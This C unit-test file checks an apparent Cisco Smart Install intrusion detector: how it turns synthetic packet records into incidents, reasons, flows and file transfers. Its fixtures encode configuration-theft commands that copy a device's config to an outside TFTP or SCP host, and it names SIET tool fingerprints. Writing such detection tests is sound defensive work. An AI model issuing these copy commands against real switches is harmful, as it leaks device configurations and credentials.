/* SPDX-License-Identifier: BSD-2-Clause */
/* What stands in one incident: reasons, packets, flows, files, its name; and the limits. */
#include <criterion/criterion.h>
#include <stdio.h>

#include "feed.h"
#include "words.h"

Test(situations, an_incident_names_its_packets_and_reasons)
{
    static const struct situation sample = {
        "", "", "",
        "f 9 1 A>D a 0 0\nm 10 2 A>D backup_request config_exfiltration,url_host_foreign t=SIET " SIET
        "\nf 10 2 A>D a 1048 0\n",
        "", ""};
    static const char *const reasons[] = {
        "backup_request: copy system:running-config flash:/config.text (t.pcap packet 2)",
        "a URL names another host than the one that sent the message (t.pcap packet 2)",
        "the bytes carry constants of the tool SIET (t.pcap packet 2)",
        "a connection without data came just before, as the tool SIET makes one (t.pcap packet 1)"};
    struct smini_alloc alloc;
    struct smini_incident_set *set = NULL;
    smini_alloc_init(&alloc, 0);
    cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
    const struct smini_incident *incident = smini_incident_get(set, 0);
    cr_assert_not_null(incident);
    cr_assert_eq(incident->reasons.count, 4U);
    for (size_t i = 0; i < 4; i++)
        cr_expect(smini_span_equal(incident->reasons.items[i], smini_span_text(reasons[i])), "%.*s",
                  (int)incident->reasons.items[i].length, (const char *)incident->reasons.items[i].bytes);
    cr_expect_str_eq(incident->techniques[0], "T1190");
    cr_expect_str_eq(incident->techniques[1], "T1602.002");
    cr_expect_null(incident->cve, "misuse of documented messages is no CVE");
    cr_expect_eq(incident->port, 4786U);
    cr_expect_str_eq(incident->messages[0].capture, "t.pcap");
    cr_expect_eq(strlen(incident->id), 16U);
    smini_incident_free(&set);
}

/* Kind, flow and opener of every flow, in order. */
static void render_flows(const struct smini_incident *incident, char *text, size_t size)
{
    size_t length = 0;
    text[0] = 0;
    for (uint32_t i = 0; i < incident->flow_count; i++) {
        const struct smini_incident_flow_reference *flow = &incident->flows[i];
        length += (size_t)snprintf(text + length, size - length, "%s %u %c>%c:%u\n",
                                   smini_incident_evidence_text(flow->kind), (unsigned)flow->flow_id,
                                   people_letter(&flow->client), people_letter(&flow->server), flow->server_port);
    }
}

Test(situations, an_incident_names_the_flows_it_rests_on)
{
    static const struct {
        const char *seen, *flows;
    } rows[] = {
        {"f 9 1 A>D a 0 0\n" STEAL "f 10 2 A>D a 1048 0\nm 40 3 D>A backup_response backup_confirmed s=1\nf 41 3 D>A a 92 0\n",
         "empty 1 A>D:4786\ncommand 2 A>D:4786\ncall-back 3 D>A:4786\n"},
        {PROBE ACTIVE "f 1 1 A>D a 24 24\n" SEND "t 20 5 D>A closed d.conf s 700\n",
         "command 1 A>D:4786\ncommand 2 A>D:4786\ntransfer 5 D>A:69\n"},
        {PUSH "t 20 5 D>A refused my.conf c 0\n", "command 2 A>D:4786\ntransfer 5 D>A:69\n"},
        {PUSH "t 5 5 D>B closed my.conf c 700\n", "transfer 5 D>B:69\ncommand 2 A>D:4786\n"},
        {SERVE "t 20 5 B>D closed startup-config c 700\n", "command 2 A>D:4786\ntransfer 5 B>D:69\n"},
        {STEAL "f 10 2 A>D a 1048 0\nf 40 3 D>A r 0 0\n", "command 2 A>D:4786\ncall-back 3 D>A:4786\n"},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct smini_alloc alloc;
        struct smini_incident_set *set = NULL;
        char flows[512];
        struct situation sample = {"", "", "", rows[i].seen, "", ""};
        smini_alloc_init(&alloc, 0);
        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
        render_flows(smini_incident_get(set, 0), flows, sizeof(flows));
        cr_expect_str_eq(flows, rows[i].flows, "%zu:\n%s", i, flows);
        smini_incident_free(&set);
        cr_assert_eq(alloc.used, 0U);
    }
}

Test(situations, messages_and_files_say_who_sent_them_and_how)
{
    static const struct situation sample = {
        "", "", "",
        "m 10 2 A>D backup_request url_host_foreign,config_exfiltration "
        "c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\nf 10 2 A>D a 1048 0\nt 20 5 D>A closed d.conf s 700 d=7\n"
        "m 40 3 D>A backup_response - s=1\nf 41 3 D>A a 92 0\n",
        "", ""};
    struct smini_alloc alloc;
    struct smini_incident_set *set = NULL;
    smini_alloc_init(&alloc, 0);
    cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
    const struct smini_incident *incident = smini_incident_get(set, 0);
    cr_assert_eq(incident->message_count, 2U);
    cr_expect_str_eq(incident->messages[0].event, "config_exfiltration");
    cr_expect(incident->messages[0].to_server && !incident->messages[0].from_device);
    cr_expect_eq(incident->messages[0].server_port, 4786U);
    cr_expect_eq(incident->messages[0].flow_id, 2U);
    cr_expect_null(incident->messages[1].event);
    cr_expect(incident->messages[1].to_server && incident->messages[1].from_device);
    cr_assert_eq(incident->file_count, 1U);
    const struct smini_incident_file *file = &incident->files[0];
    cr_expect(!file->to_device);
    cr_expect_eq(people_letter(&file->peer), 'A');
    cr_expect_eq(file->peer_port, 69U);
    cr_expect_eq(file->device_port, 40001U);
    cr_expect_eq(file->flow_id, 5U);
    cr_expect_eq(file->md5[0], 7U);
    cr_expect(smini_span_equal(file->protocol, smini_span_text("tftp")));
    smini_incident_free(&set);
    cr_assert_eq(alloc.used, 0U);
}

static bool says(const struct smini_incident *incident, const char *reason)
{
    for (uint32_t i = 0; i < incident->reasons.count; i++)
        if (smini_span_equal(incident->reasons.items[i], smini_span_text(reason)))
            return true;
    return false;
}

Test(situations, a_file_that_left_is_compared_with_the_digest_that_the_device_reports)
{
    static const struct {
        const char *digest, *reason;
    } both[] = {{"d=7\n", "the MD5 that the device reported for its startup-config is that of the file that left it"},
                {"d=8\n", "the MD5 that the device reported for its startup-config is not that of the file that left it: "
                          "another file, or another configuration"}};
    for (size_t i = 0; i < 2; i++) {
        char seen[512];
        struct smini_alloc alloc;
        struct smini_incident_set *set = NULL;
        struct situation sample = {"", "", "", seen, "", ""};
        snprintf(seen, sizeof(seen), "%st 20 5 D>A closed d.conf s 700 d=7\nm 40 3 D>A backup_response backup_confirmed s=1 %s",
                 SEND, both[i].digest);
        smini_alloc_init(&alloc, 0);
        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
        const struct smini_incident *incident = smini_incident_get(set, 0);
        cr_expect_eq(incident->outcome, SMINI_OUTCOME_SUCCEEDED);
        cr_expect(says(incident, both[i].reason), "%zu", i);
        cr_expect(says(incident, "the device sent d.conf over tftp, 700 bytes, whole (t.pcap packet 3)"));
        cr_assert_eq(incident->file_count, 1U);
        cr_expect_eq(incident->files[0].size, 700U);
        smini_incident_free(&set);
        cr_assert_eq(alloc.used, 0U);
    }
}

Test(situations, reasons_say_why_a_transfer_leaves_the_outcome_unknown)
{
    static const struct {
        const char *seen, *reason;
    } rows[] = {
        {"m 10 2 A>D backup_request config_exfiltration c=copy_running-config_scp://198.51.100.7/d\nf 10 2 A>D a 1048 0\n"
         "t 20 5 D>A sealed - s 4242 p=sealed\n",
         "an encrypted transfer of 4242 bytes between 192.0.2.10 and 198.51.100.7 was seen; its contents are unknown "
         "(t.pcap packet 3)"},
        {PUSH "t 20 5 d>a closed my.conf c 700\n",
         "a file of the name that was commanded, my.conf, moved over another version of IP than the command speaks of: "
         "whether it is the same file is not known (t.pcap packet 3)"},
        {PUSH "t 20 5 D>B closed my.conf c 700\n",
         "a file of the name that was commanded, my.conf, moved between other addresses than were named: "
         "whether it is the same file is not known (t.pcap packet 3)"},
    };
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct smini_alloc alloc;
        struct smini_incident_set *set = NULL;
        struct situation sample = {"", "", "", rows[i].seen, "", ""};
        smini_alloc_init(&alloc, 0);
        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
        const struct smini_incident *incident = smini_incident_get(set, 0);
        cr_expect_eq(incident->outcome, SMINI_OUTCOME_UNKNOWN);
        cr_expect(says(incident, rows[i].reason), "%s", rows[i].reason);
        smini_incident_free(&set);
        cr_assert_eq(alloc.used, 0U);
    }
}

Test(situations, a_configuration_that_nobody_was_seen_to_order_is_evidence_at_a_known_device)
{
    static const char moved[] = "t 20 5 D>A closed x.conf s 700 y=ios-config\n";
    static const char told[] = "sent, without a command that was seen, a file of the type ios-config (t.pcap packet 4)";
    char seen[512];
    for (int known = 0; known < 2; known++) {
        struct smini_alloc alloc;
        struct smini_incident_set *set = NULL;
        struct situation sample = {"", "", "", seen, "", ""};
        snprintf(seen, sizeof(seen), "%s%s", known ? PROBE ACTIVE "f 1 1 A>D a 24 24\n" : "", moved);
        smini_alloc_init(&alloc, 0);
        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
        const struct smini_device *device = smini_incident_device(set, 0);
        cr_expect_eq(device != NULL, known == 1, "a transfer alone makes no device of Smart Install");
        if (device)
            cr_expect(smini_span_equal(device->evidence.items[device->evidence.count - 1], smini_span_text(told)), "%.*s",
                      (int)device->evidence.items[device->evidence.count - 1].length,
                      (const char *)device->evidence.items[device->evidence.count - 1].bytes);
        cr_expect_null(smini_incident_get(set, (uint32_t)known));
        smini_incident_free(&set);
        cr_assert_eq(alloc.used, 0U);
    }
}

Test(situations, limits_are_kept_and_counted)
{
    struct smini_alloc alloc;
    struct smini_incident_set *set = NULL;
    struct smini_incident_options options;
    smini_alloc_init(&alloc, 0);
    smini_incident_options_default(&options);
    options.incidents_max = 1;
    options.devices_max = 2;
    options.list_max = 1;
    cr_assert_eq(smini_incident_new(&set, &alloc, &options), SMIN_OK);
    cr_assert_eq(feed(set, PROBE "m 2 1 A>D capabilities_request probe\nm 3 7 A>E capabilities_request probe\nf 1 8 A>F r 0 0\n"),
                 SMIN_OK);
    cr_assert_eq(smini_incident_finish(set), SMIN_OK);
    const struct smini_incident *incident = smini_incident_get(set, 0);
    cr_expect_eq(incident->message_count, 1U);
    cr_expect_eq(incident->message_total, 2U);
    cr_expect_null(smini_incident_get(set, 1));
    cr_expect_null(smini_incident_device(set, 2));
    cr_expect(smini_incident_left_out(set) >= 3);
    smini_incident_free(&set);
    cr_assert_eq(alloc.used, 0U);
}

Test(situations, files_that_nobody_ordered_make_room_and_are_counted)
{
    enum { OTHERS = 9, KEPT = 4 };
    struct smini_alloc alloc;
    struct smini_incident_set *set = NULL;
    struct smini_incident_options options;
    char lines[1024];
    size_t length = 0;
    smini_alloc_init(&alloc, 0);
    smini_incident_options_default(&options);
    options.transfers_max = KEPT;
    for (int i = 0; i < OTHERS; i++)
        length += (size_t)snprintf(lines + length, sizeof(lines) - length, "t %d %d F>B closed other%d c 9\n", 100 + i,
                                   100 + i, i);
    cr_assert_eq(smini_incident_new(&set, &alloc, &options), SMIN_OK);
    cr_assert_eq(feed(set, PUSH "t 20 5 D>A closed my.conf c 700\n"), SMIN_OK);
    cr_assert_eq(feed(set, lines), SMIN_OK);
    cr_assert_eq(smini_incident_finish(set), SMIN_OK);
    const struct smini_incident *incident = smini_incident_get(set, 0);
    cr_expect_eq(incident->outcome, SMINI_OUTCOME_SUCCEEDED);
    cr_assert_eq(incident->file_count, 1U);
    cr_expect(smini_span_equal(incident->files[0].name, smini_span_text("my.conf")), "its name outlives the transfer");
    cr_expect_gt(smini_incident_left_out(set), 0U);
    smini_incident_free(&set);
    cr_assert_eq(alloc.used, 0U);
}

Test(situations, an_id_depends_on_content_only)
{
    static const char *const seen[] = {STEAL "f 10 2 A>D a 1048 0\n",
                                       "m 1 1 B>D capabilities_request probe\n" STEAL "f 10 2 A>D a 1048 0\n",
                                       PROBE "f 1 1 A>D a 24 0\n" STEAL "f 10 2 A>D a 1048 0\n"};
    char first[17] = "";
    for (size_t i = 0; i < 3; i++) {
        struct situation sample = {"", "", "", seen[i], "", ""};
        struct smini_alloc alloc;
        struct smini_incident_set *set = NULL;
        const struct smini_incident *incident;
        smini_alloc_init(&alloc, 0);
        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
        uint32_t at = 0;
        while ((incident = smini_incident_get(set, at)) && incident->verdict != SMINI_VERDICT_CONFIG_EXFILTRATION)
            at++;
        cr_assert_not_null(incident);
        if (i == 0)
            strcpy(first, incident->id);
        cr_expect_str_eq(incident->id, first);
        smini_incident_free(&set);
    }
}
